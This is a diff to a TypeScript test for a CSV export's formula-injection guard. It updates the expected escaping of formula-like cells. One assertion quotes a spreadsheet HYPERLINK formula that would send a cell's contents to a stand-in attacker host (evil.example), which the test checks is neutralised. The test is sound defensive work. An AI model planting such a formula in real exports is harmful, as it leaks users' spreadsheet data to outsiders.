@@ -19,7 +19,8 @@ const COLUMNS: ExportColumn[] = [
   { key: 'score', header: 'Puntaje', kind: 'number' },
 ];
 
-const FORMULA_START = /^[=+\-@\t\r]/;
+/** The guard's documented change: an apostrophe before a formula-like field and before = + - @ starting a piece. */
+const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? "'" : '') + text.replace(/([,;\t\r\n]"*)([=+\-@])/g, "$1'$2");
 
 test('csv: BOM, header, CRLF, quoting, injection guard, dates and numbers', async (t) => {
   const dir = tempDir(t);
@@ -48,7 +49,7 @@ test('csv: BOM, header, CRLF, quoting, injection guard, dates and numbers', asyn
   assert.equal(text.split('\r\n').length - 1, rows.length + 1 + inCells, 'CRLF ends every record (others are inside quoted cells)');
   // The formula-like cell, exactly as OWASP advises: quoted, with a leading apostrophe, inner quotes doubled.
   assert.ok(text.includes(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`));
-  assert.ok(text.includes(`,"'+1",`) && text.includes(`,"'@SUM(A1:A9)",`) && text.includes(`,"'\t=1+1",`));
+  assert.ok(text.includes(`,"'+1",`) && text.includes(`,"'@SUM(A1:A9)",`) && text.includes(`,"'\t'=1+1",`));
   assert.ok(text.includes(`,"He said ""yes"", then left",`), 'RFC 4180: quotes doubled, commas quoted');
   assert.ok(text.includes(`\r\n1,"Buenos días, ¿en qué le puedo ayudar?",2025-03-09 01:59:59,0\r\n`));
   assert.ok(text.includes(',2025-03-09 03:00:00,'), 'the DST jump is in the wall clock');
@@ -60,7 +61,7 @@ test('csv: BOM, header, CRLF, quoting, injection guard, dates and numbers', asyn
   HOSTILE.forEach((h, i) => {
     // Every character kept; only a lone surrogate, which UTF-8 cannot hold, arrives as U+FFFD.
     const kept = Buffer.from(h.input, 'utf8').toString('utf8');
-    const expected = FORMULA_START.test(kept) ? `'${kept}` : kept;
+    const expected = guarded(kept);
     assert.equal(data[i + 1]![1], expected, h.label);
     assert.equal(String(data[i + 1]![0]), String(i + 1));
     assert.equal(String(data[i + 1]![3]), String(i / 2));
